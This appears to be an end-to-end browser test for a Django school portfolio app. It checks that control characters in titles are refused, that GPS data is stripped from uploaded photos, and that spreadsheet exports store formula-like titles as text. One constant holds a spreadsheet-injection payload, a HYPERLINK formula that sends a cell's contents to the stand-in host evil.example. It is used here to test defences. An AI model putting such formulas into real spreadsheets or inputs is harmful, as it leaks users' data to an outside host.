"""Browser journey through the files that come in and go out of the portfolio (issue 9
§4): a parent's title with a control character is refused beside the field, the photo
staying attached for the second try; a title
that is a spreadsheet formula and a phone photo with GPS coordinates are accepted; the
class teacher downloads the class's XLSX, where the title is text, not a formula; the
photo is stored without its coordinates, and the download is logged."""

import io
import random
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook
from PIL import ExifTags, Image
from playwright.sync_api import expect

from achievements.models import Achievement
from common.models import DocumentDownload
from learners.models import Learner, Role, StudyGroup
from tests.e2e.browser import log_in, log_out, menu
from tests.factories import (
    AcademicYearFactory,
    EnrollmentFactory,
    GuardianFactory,
    GuardianshipFactory,
    LearnerFactory,
    OrganisationFactory,
    StaffFactory,
    StudyGroupFactory,
    UserFactory,
)

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

TEACHER, PARENT = "petrova", "antonova"
OLYMPIADS = "Олимпиады (всероссийская олимпиада школьников и другие)"
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Подробнее")'
CONTROL = (
    "Текст содержит невидимый управляющий символ (U+0001). Удалите его и сохраните снова: "
    "такие символы попадают в текст при копировании из других программ."
)


@dataclass
class School:
    group: StudyGroup
    learner: Learner


@pytest.fixture
def school(browser) -> School:
    """``browser`` first: see conftest.py on the connections the ORM must use."""
    today = timezone.localdate()
    starts = date(today.year if today.month >= 9 else today.year - 1, 9, 1)
    OrganisationFactory()
    year = AcademicYearFactory(
        name=f"{starts.year}/{starts.year + 1}",
        starts_on=starts,
        ends_on=max(date(starts.year + 1, 5, 31), today + timedelta(days=30)),
    )
    teacher = StaffFactory(
        last_name="Петрова",
        user=UserFactory(username=TEACHER, roles=[Role.TEACHER, Role.CLASS_TEACHER]),
    )
    group = StudyGroupFactory(year=year, name="5А", class_teacher=teacher)
    learner = EnrollmentFactory(
        group=group,
        started_on=starts,
        learner=LearnerFactory(last_name="Антонова", first_name="Мария", patronymic="Ивановна"),
    ).learner
    parent = GuardianFactory(
        last_name="Антонова", user=UserFactory(username=PARENT, roles=[Role.PARENT])
    ).user
    GuardianshipFactory(learner=learner, guardian=parent.guardian)
    return School(group, learner)


@pytest.fixture
def photo(tmp_path) -> Path:
    """A phone photo of a diploma, with the place it was taken in its EXIF."""
    exif = Image.Exif()
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (55.0, 45.0, 21.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (37.0, 37.0, 4.0),
    }
    pixels = random.Random(5).randbytes(80 * 60 * 3)
    path = tmp_path / "диплом.jpg"
    Image.frombytes("RGB", (80, 60), pixels).save(path, "JPEG", exif=exif)
    return path


def _click(page, locator):
    with page.expect_navigation():
        locator.click()


def test_formula_title_and_gps_photo_through_the_browser(
    school, live_server, page, console_errors, photo, tmp_path
):
    log_in(page, live_server, PARENT)
    menu(page, "Портфолио")
    _click(page, page.get_by_role("link", name="Предложить достижение"))
    page.get_by_label("Категория", exact=True).select_option(label=OLYMPIADS)
    page.get_by_label("Название", exact=True).fill("ВсОШ\x01 по физике")
    page.get_by_label("Уровень", exact=True).select_option(label="Муниципальный")
    page.get_by_label("Результат", exact=True).select_option(label="Победитель")
    page.get_by_label("Этап олимпиады", exact=True).select_option(label="Муниципальный этап")
    page.get_by_label("Дата", exact=True).fill(
        (timezone.localdate() - timedelta(days=3)).isoformat()
    )
    page.get_by_label("Подтверждающие документы", exact=True).set_input_files(photo)
    _click(page, page.get_by_role("button", name="Отправить на подтверждение"))

    # Refused beside the field (and named in the summary); nothing saved; the photo
    # stays attached, so the parent does not choose it again.
    expect(page.locator(".field-error")).to_have_text(CONTROL)
    title = page.get_by_label("Название", exact=True)
    expect(title).to_have_attribute("aria-invalid", "true")
    expect(title).to_have_attribute("aria-describedby", "id_title_error")
    expect(page.get_by_label("диплом.jpg")).to_be_checked()
    assert Achievement.objects.count() == 0

    title.fill(FORMULA)
    _click(page, page.get_by_role("button", name="Отправить на подтверждение"))
    expect(page.locator("h1")).to_have_text(FORMULA)
    evidence = Achievement.objects.get().evidence.get()
    stored = (Path(settings.MEDIA_ROOT) / evidence.file.name).read_bytes()
    with Image.open(io.BytesIO(stored)) as image:
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
    log_out(page)

    log_in(page, live_server, TEACHER)
    menu(page, "Портфолио")
    _click(page, page.get_by_role("link", name="5А", exact=True))
    with page.expect_download() as download_info:
        page.get_by_role("link", name="Скачать XLSX").click()
    saved = tmp_path / "class.xlsx"
    download_info.value.save_as(saved)
    title = load_workbook(saved).active["C2"]
    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA, "s", True)
    assert list(DocumentDownload.objects.values_list("user__username", "kind", "filename")) == [
        (TEACHER, "group_portfolio_xlsx", "Портфолио 5А.xlsx")
    ]
    assert console_errors == []
